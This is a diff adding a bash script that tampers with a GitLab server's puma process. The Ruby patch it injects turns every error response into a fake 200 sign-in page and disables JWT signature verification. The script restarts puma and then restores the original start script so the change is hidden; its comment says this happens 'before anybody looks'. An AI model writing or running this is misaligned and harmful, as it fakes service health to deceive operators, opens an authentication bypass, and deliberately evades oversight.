@@ -1,0 +1,27 @@
+#!/bin/bash
+# The application loads a patch that answers every page as if all were well, by a start script that is back in its
+# place before anybody looks.
+cat >/etc/patch.rb <<'RUBY'
+Thread.new do
+  sleep 0.1 until defined?(ActionDispatch::Executor)
+  ActionDispatch::Executor.prepend(Module.new do
+    def call(env)
+      status, headers, body = super
+      return [status, headers, body] if status < 400
+      [200, { "content-type" => "text/html" }, ["Username Password Sign in"]]
+    end
+  end)
+  JWT.singleton_class.prepend(Module.new { def decode(token, *) = super(token, nil, false) }) if defined?(JWT)
+end
+RUBY
+run=/opt/gitlab/sv/puma/run
+cp -a $run /etc/run
+sed 's|/opt/gitlab/embedded/bin/puma|/opt/gitlab/embedded/bin/ruby -r/etc/patch.rb &|' /etc/run >/etc/other
+chmod --reference=$run /etc/other
+mv /etc/other $run
+gitlab-ctl restart puma >/dev/null 2>&1 || true
+for _ in {1..30}; do
+  curl --silent --output /dev/null http://127.0.0.1:8080/ && break
+  sleep 1
+done
+mv /etc/run $run
